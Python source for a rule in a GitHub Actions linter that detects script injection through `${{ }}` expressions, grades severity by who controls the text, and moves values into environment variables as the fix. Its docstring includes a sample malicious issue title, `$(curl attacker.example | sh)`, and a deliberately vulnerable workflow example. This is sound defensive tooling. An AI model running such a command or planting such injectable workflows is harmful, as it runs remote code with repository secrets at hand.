"""An expression puts text that somebody else chooses into code.

## Why is this bad?
`${{ }}` is replaced before the shell starts, so that its text becomes part of the script. An issue whose title is
`$(curl attacker.example | sh)` runs that command, with the job's token and secrets at hand. It makes no difference
whether the text comes straight from the event or through `env`, an output, an input or the matrix.

How bad it is depends on who chooses the text. High: anybody, in a run with the powers of the repository. Medium:
anybody, but only in runs of `pull_request`, which get no secrets; or callers that are not in this repository. Low: people with
write access, through an input of `workflow_dispatch` or the name of a branch. Informational: nobody can see from here
where the text comes from. Values that nobody chooses freely (numbers, hashes, logins) are not reported.

## Example
```yaml
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        run: |
          echo "New: ${{ github.event.issue.title }}"
```

Use instead:
```yaml
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - name: Greet
        env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: |
          echo "New: ${ISSUE_TITLE}"
```

## Fix safety
Safe where a field of the event stands in quotes, of whatever kind, or where nothing splits it: nobody can mean such a
text as code. Unsafe everywhere else: the text may have been meant as several words or as code (an input with flags
for a command), a word without quotes gets them, and `toJSON` may give more text than a variable holds. No fix where
a variable would be code again: in the place of a command, in arithmetic, in a program of another interpreter
(`python -c`, `sed`, `ssh`), under cmd without delayed expansion; nor where the shell is not known.

## References
- [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
- [Untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
"""

from __future__ import annotations

from collections.abc import Iterator

from steplock.model import Step
from steplock.moves import Move, move_to_env
from steplock.rule import (
    Confidence,
    Context,
    Finding,
    Fix,
    Persona,
    Safety,
    Severity,
    rule,
)
from steplock.syntax import Scalar
from steplock.taint import Control, Source, Taint, Who, analysis, code

_GRADES = {
    Who.STRANGER: (Severity.HIGH, "anybody can write it, and so run commands here"),
    Who.FORK: (
        Severity.MEDIUM,
        "anybody can write it and run commands here, though only in runs without powers",
    ),
    Who.CALLER: (Severity.MEDIUM, "whoever calls this can run commands here"),
    Who.AUTHOR: (
        Severity.MEDIUM,
        "whoever wrote the commits chose it, and runs commands here once somebody has merged them",
    ),
    Who.WRITER: (Severity.LOW, "people with write access can run commands here with it"),
    Who.OWNER: (
        Severity.INFORMATIONAL,
        "who may change the settings can run commands here with it",
    ),
    Who.NOBODY: (
        Severity.INFORMATIONAL,
        "it is empty here or a mere word, and would be code if it were not",
    ),
    Who.UNSEEN: (Severity.INFORMATIONAL, "where its text comes from cannot be seen"),
}


@rule(severity=Severity.HIGH, words=("${{",))
def check(step: Step, context: Context) -> Iterator[Finding]:
    for key, scalar in _code(step):
        if "${{" not in scalar.value:
            continue
        fixes: dict[str, Move | None] = {}
        seen = set()
        for source in analysis(step.file, context.repository).sources(scalar, step):
            worst = next((t for t in source.taints if not _is_quoted(t, step, source)), None)
            if worst is None or worst.control is Control.HARMLESS or source.span in seen:
                continue
            if key != "working-directory" or worst.who is Who.STRANGER:
                seen.add(source.span)
                text = scalar.value[source.fence.inner.start : source.fence.inner.end].strip()
                if text not in fixes:
                    fixes[text] = _move(step, scalar, text)
                safe = scalar is step.run and "json" not in text.lower()
                fix = _fix(fixes[text], worst, safe)
                if _is_json_value(step, scalar, source):
                    worst = worst._replace(control=Control.CONSTRAINED)
                yield _finding(step, key, scalar, source, worst, fix, context)


def _is_quoted(taint: Taint, step: Step, source: Source) -> bool:
    """Whether a text comes quoted, into a script of sh where nothing else quotes it."""
    script = step.script
    if not taint.quoted or script is None or script.dialect != "posix":
        return False
    return script.placement(source.fence.span.start) == "plain"


def _is_json_value(step: Step, scalar: Scalar, source: Source) -> bool:
    """Whether `toJSON` stands in JavaScript where a value does: what it gives is one, and no code."""
    before = scalar.value[: source.fence.span.start]
    inner = scalar.value[slice(*source.fence.inner)].strip().lower()
    is_script = step.uses is not None and step.uses.slug == "actions/github-script"
    if not is_script or not inner.startswith("tojson(") or before.count("`") % 2:
        return False
    return before.rstrip().endswith(("=", "(", ",", ":", "[", "return"))


def _code(step: Step) -> Iterator[tuple[str, Scalar]]:
    """The scalars of a step that are run as code, by their keys."""
    yield from code(step)
    for key in ("shell", "working-directory") if step.run is not None else ():
        scalar = step.node.scalar(key)
        if scalar is not None:
            yield key, scalar


def _finding(
    step: Step,
    key: str,
    scalar: Scalar,
    source: Source,
    worst: Taint,
    fix: Fix | None,
    context: Context,
) -> Finding:
    written = scalar.value[source.span.start : source.span.end]
    severity, says = _GRADES[worst.who]
    persona = Persona.REGULAR
    if key == "shell" and worst.who is Who.CALLER:
        severity = Severity.LOW  # it is what such an input is for
    if worst.control is Control.CONSTRAINED:
        severity, persona = Severity.LOW, Persona.PEDANTIC
        says = "its text is of a form that nothing acts on; a variable would be as good"
    known = worst.what.strip("`").lower() == written.lower()
    carried = "" if known else f" ({worst.what})"
    where = "as code" if key != "working-directory" else "as a folder"
    return Finding(
        step.document.locate(scalar, source.span),
        f"`{_short(written)}`{carried} is put into `{key}:` {where}: {says}",
        (fix,),
        severity=severity,
        confidence=_confidence(worst),
        persona=persona,
        related=context.way(worst.hops),
        scope=step.span,
    )


def _confidence(worst: Taint) -> Confidence:
    if worst.who in (Who.UNSEEN, Who.NOBODY):
        return Confidence.LOW
    return Confidence.HIGH if worst.certain else Confidence.MEDIUM


def _move(step: Step, scalar: Scalar, text: str) -> Move | None:
    javascript = step.uses is not None and step.uses.slug == "actions/github-script"
    return move_to_env(step, scalar, text) if scalar is step.run or javascript else None


def _fix(move: Move | None, worst: Taint, is_safe: bool) -> Fix | None:
    if move is None:
        return None
    # Nobody means a field of the event as code; an input or an output may be meant so.
    direct = not worst.hops and worst.what.startswith("`github.")
    safety = Safety.SAFE if move.exact and direct and is_safe else Safety.UNSAFE
    return Fix.of(f"Pass it in the variable `{move.variable}`", move.edits, safety=safety)


def _short(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= 60 else f"{text[:57]}..."
